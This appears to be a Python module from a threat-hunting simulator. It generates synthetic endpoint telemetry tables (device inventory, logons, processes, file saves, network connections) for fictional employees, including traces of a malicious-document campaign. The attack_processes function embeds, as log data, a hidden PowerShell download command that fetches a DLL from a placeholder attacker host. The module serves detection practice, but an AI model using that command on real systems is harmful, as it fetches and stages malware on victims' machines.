"""Devices: one per employee, what runs on them, and what a malicious file or link does there."""

from __future__ import annotations

from dataclasses import dataclass
from hashlib import sha256

import numpy as np
import pyarrow as pa

from hunting.simulate import words
from hunting.simulate.campaigns import Campaign
from hunting.simulate.draw import (
    DAY,
    SECOND,
    Ints,
    Rng,
    cumulative,
    glue,
    hexadecimal,
    numbers,
    pick,
    rng_for,
    same,
    texts,
    timestamps,
)
from hunting.simulate.people import Tenant
from hunting.simulate.sign_ins import ATTACKER_HOST, ATTACKER_IP, Victims, activity

_PROGRAMS = ("outlook.exe", "chrome.exe", "winword.exe", "excel.exe", "teams.exe", "explorer.exe", "powershell.exe")
_SHARES = cumulative((26, 34, 12, 12, 12, 3.8, 0.2))
_WORD, _POWERSHELL, _BROWSER, _MAIL, _SHELL = 2, 6, 1, 0, 5
_FOLDERS = tuple(f"C:\\Program Files\\{name.split('.')[0].title()}" for name in _PROGRAMS)
_HASHES = tuple(sha256(name.encode()).hexdigest() for name in _PROGRAMS)


@dataclass(frozen=True)
class Devices:
    """By employee number: device ids and names."""

    id: pa.Array
    name: pa.Array


def make_devices(tenant: Tenant, seed: int) -> Devices:
    """A workstation per employee."""
    rng = rng_for(seed, "devices")
    serial = numbers(10_000 + np.arange(tenant.employees))
    return Devices(hexadecimal(rng, tenant.employees, 20), glue("ws-", serial, ".", words.TENANT_DOMAIN))


def inventory(tenant: Tenant, devices: Devices, rng: Rng, start: int, end: int) -> pa.Table:
    """Rows of DeviceInfo: each device once a day."""
    person = np.arange(tenant.employees - 1)
    time = start + rng.integers(0, DAY, len(person))
    person, time = person[time < end], time[time < end]
    user = tenant.address.take(pa.array(person))
    return pa.table(
        {
            **_device(devices, person, time, rng),
            "ClientVersion": same("10.8760.22621.1", len(person)),
            "OSPlatform": same("Windows11", len(person)),
            "OSBuild": pa.array(np.full(len(person), 22631)),
            "DeviceType": same("Workstation", len(person)),
            "OnboardingStatus": same("Onboarded", len(person)),
            "JoinType": same("AAD Joined", len(person)),
            "PublicIP": tenant.ip.take(pa.array(person)),
            "LoggedOnUsers": glue('[{"UserName":"', user, '"}]'),
        }
    )


def device_logons(tenant: Tenant, devices: Devices, rng: Rng, start: int, end: int) -> pa.Table:
    """A day's rows of DeviceLogonEvents."""
    person, time = activity(tenant, rng, start, end, 0.8)
    failed = (rng.random(len(person)) < 0.03).astype(np.int64)
    return pa.table(
        {
            **_device(devices, person, time, rng),
            "ActionType": texts(("LogonSuccess", "LogonFailed"), failed),
            "FailureReason": texts(("", "InvalidUserNameOrPassword"), failed),
            "LogonType": same("Interactive", len(person)),
            **{name: values for name, values in _account(tenant, person).items() if name in ("AccountDomain", "AccountName")},
        }
    )


def everyday_processes(tenant: Tenant, devices: Devices, rng: Rng, start: int, end: int) -> pa.Table:
    """A day's rows of DeviceProcessEvents."""
    person, time = activity(tenant, rng, start, end, 1.0)
    program = pick(rng, _SHARES, len(person))
    command = texts([f'"{folder}\\{name}"' for folder, name in zip(_FOLDERS, _PROGRAMS, strict=True)], program)
    return _processes(tenant, devices, rng, person, time, program, command, np.full(len(person), _SHELL))


def attack_processes(tenant: Tenant, devices: Devices, rng: Rng, opened: Victims) -> pa.Table:
    """The script that a malicious file starts."""
    size = len(opened.person)
    command = pa.array(
        [f"powershell.exe -nop -w hidden -c iwr https://{ATTACKER_HOST}/a -o $env:TEMP\\a.dll"] * size, pa.string()
    )
    program, parent = np.full(size, _POWERSHELL), np.full(size, _WORD)
    return _processes(tenant, devices, rng, opened.person, opened.time + 8 * SECOND, program, command, parent)


def _processes(
    tenant: Tenant, devices: Devices, rng: Rng, person: Ints, time: Ints, program: Ints, command: pa.Array, parent: Ints
) -> pa.Table:
    return pa.table(
        {
            **_device(devices, person, time, rng),
            "ActionType": same("ProcessCreated", len(person)),
            "FileName": texts(_PROGRAMS, program),
            "FolderPath": texts(_FOLDERS, program),
            "SHA256": texts(_HASHES, program),
            "ProcessId": pa.array(rng.integers(1000, 30000, len(person))),
            "ProcessCommandLine": command,
            "ProcessCreationTime": timestamps(time),
            **_account(tenant, person),
            **_initiator(tenant, person, parent),
        }
    )


def opened_files(tenant: Tenant, devices: Devices, rng: Rng, opened: Victims, campaign: Campaign) -> pa.Table:
    """Rows of DeviceFileEvents: the campaign's file, saved from the mail program."""
    size = len(opened.person)
    files = campaign.mail.files.take(pa.array(np.zeros(size, dtype=np.int64)))
    return pa.table(
        {
            **_device(devices, opened.person, opened.time, rng),
            "ActionType": same("FileCreated", size),
            "FileName": files["FileName"],
            "FolderPath": glue("C:\\Users\\Public\\Downloads\\", files["FileName"]),
            "SHA256": files["SHA256"],
            "FileSize": files["FileSize"],
            **_initiator(tenant, opened.person, np.full(size, _MAIL)),
        }
    )


def saved_files(tenant: Tenant, devices: Devices, rng: Rng, start: int, end: int) -> pa.Table:
    """A day's rows of DeviceFileEvents: harmless attachments that people save."""
    person, time = activity(tenant, rng, start, end, 0.4)
    files = tenant.files.take(pa.array(rng.integers(0, tenant.files.num_rows, len(person))))
    return pa.table(
        {
            **_device(devices, person, time, rng),
            "ActionType": same("FileCreated", len(person)),
            "FileName": files["FileName"],
            "FolderPath": glue("C:\\Users\\Public\\Downloads\\", files["FileName"]),
            "SHA256": files["SHA256"],
            "FileSize": files["FileSize"],
            **_initiator(tenant, person, np.full(len(person), _MAIL)),
        }
    )


def everyday_network(tenant: Tenant, devices: Devices, rng: Rng, start: int, end: int) -> pa.Table:
    """A day's rows of DeviceNetworkEvents."""
    person, time = activity(tenant, rng, start, end, 1.0)
    urls = tenant.urls["Url"].take(pa.array(rng.integers(0, tenant.urls.num_rows, len(person))))
    outside = tenant.ip.slice(tenant.employees).take(pa.array(rng.integers(0, tenant.size - tenant.employees, len(person))))
    return _network(tenant, devices, rng, person, time, urls, outside, np.full(len(person), _BROWSER))


def attack_network(tenant: Tenant, devices: Devices, rng: Rng, reached: Victims, campaign: Campaign) -> pa.Table:
    """Connections to a campaign's page, and those of the script that its file started."""
    size, of_file = len(reached.person), campaign.scenario.kind == "shared-file"
    url = same(f"https://{ATTACKER_HOST}/a" if of_file else campaign.url, size)
    program = np.full(size, _POWERSHELL if of_file else _BROWSER)
    time = reached.time + (12 if of_file else 1) * SECOND
    return _network(tenant, devices, rng, reached.person, time, url, same(ATTACKER_IP, size), program)


def _network(
    tenant: Tenant, devices: Devices, rng: Rng, person: Ints, time: Ints, url: pa.Array, address: pa.Array, program: Ints
) -> pa.Table:
    size = len(person)
    return pa.table(
        {
            **_device(devices, person, time, rng),
            "ActionType": same("ConnectionSuccess", size),
            "RemoteIP": address,
            "RemotePort": pa.array(np.full(size, 443), pa.int32()),
            "RemoteUrl": url,
            "RemoteIPType": same("Public", size),
            "Protocol": same("Tcp", size),
            "LocalIP": glue("10.20.", numbers(person // 250), ".", numbers(person % 250 + 2)),
            "LocalPort": pa.array(rng.integers(49152, 65535, size), pa.int32()),
            **_initiator(tenant, person, program),
        }
    )


def _device(devices: Devices, person: Ints, time: Ints, rng: Rng) -> dict[str, pa.Array]:
    who = pa.array(person)
    return {
        "Timestamp": timestamps(time),
        "DeviceId": devices.id.take(who),
        "DeviceName": devices.name.take(who),
        "ReportId": pa.array(rng.integers(1, 100_000, len(person))),
    }


def _account(tenant: Tenant, person: Ints) -> dict[str, pa.Array]:
    who = pa.array(person)
    address = tenant.address.take(who)
    return {
        "AccountDomain": pa.array([words.TENANT_DOMAIN.partition(".")[0]] * len(person), pa.string()),
        "AccountName": pa.array([text.partition("@")[0] for text in address.to_pylist()], pa.string()),
        "AccountUpn": address,
        "AccountObjectId": tenant.object_id.take(who),
    }


def _initiator(tenant: Tenant, person: Ints, program: Ints) -> dict[str, pa.Array]:
    return {
        **{f"InitiatingProcess{name}": values for name, values in _account(tenant, person).items()},
        "InitiatingProcessFileName": texts(_PROGRAMS, program),
        "InitiatingProcessFolderPath": texts(_FOLDERS, program),
        "InitiatingProcessSHA256": texts(_HASHES, program),
    }
